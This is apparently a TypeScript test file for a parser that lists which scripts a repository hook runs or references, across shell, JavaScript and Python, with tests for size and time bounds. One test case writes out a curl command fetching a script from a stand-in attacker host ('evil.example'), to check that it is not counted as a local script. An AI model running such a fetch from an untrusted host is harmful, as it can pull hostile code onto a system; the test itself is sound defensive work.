/** What a script names that it may start or load. */
import assert from "node:assert/strict";
import { scriptsIn } from "../../../src/core/hooks/scriptNames";

describe("scripts that a hook's script names", () => {
  const check = (line: string, runs: string[], paths: string[] = [], file = "guard.sh") =>
    it(`${file}: ${line}`, () => {
      const found = scriptsIn(`#!/bin/sh\n${line}\n`, file);
      assert.deepEqual(
        found.filter(each => each.runs).map(({ path }) => path),
        runs,
      );
      assert.deepEqual(
        found.filter(each => !each.runs).map(({ path }) => path),
        paths,
      );
    });
  check("bash lib.sh --fast", ["lib.sh"]);
  check("exec python3 -u tools/check.py", ["tools/check.py"]);
  check(". ./lib.sh && source other.sh", ["./lib.sh", "other.sh"]);
  check('source "$(dirname "$0")/lib.sh"', ["./lib.sh"]);
  check('. "$(cd "$(dirname "$0")" && pwd)/lib.sh"', ["./lib.sh"]);
  check('"$HERE"/lib.sh; $' + "{BASH_SOURCE%/*}/more.sh", [], ["./lib.sh", "./more.sh"]);
  check("scripts/run --all > /dev/null", [], ["scripts/run", "/dev/null"]);
  check("curl https://evil.example/x.sh", []);
  check("  # see ./other.sh", []);
  check("cat README.md", []);
  check('import { x } from "./lib.mjs";', ["./lib.mjs"], [], "guard.mjs");
  check(
    'const x = require("./lib"), fs = require("fs")',
    ["", ".js", ".mjs", ".cjs", ".ts", "/index.js"].map(end => `./lib${end}`),
    [],
    "guard.js",
  );
  check("from lib.check import x", ["lib/check.py", "lib/check/__init__.py", "x.py", "x/__init__.py"], [], "guard.py");
  check("bash ./other.sh", [], [], "README.md");
  it("is bounded, in names and in time", () => {
    assert.equal(scriptsIn(Array.from({ length: 10_000 }, (_, at) => `./w${at}`).join("\n"), "x.sh").length, 300);
    assert.deepEqual(scriptsIn(`${"$(".repeat(100_000)} ./a`, "x.sh"), []);
    assert.equal(scriptsIn(`${'"$('.repeat(1_300)} ./a\n`.repeat(200), "x.sh").length, 1);
  });
});
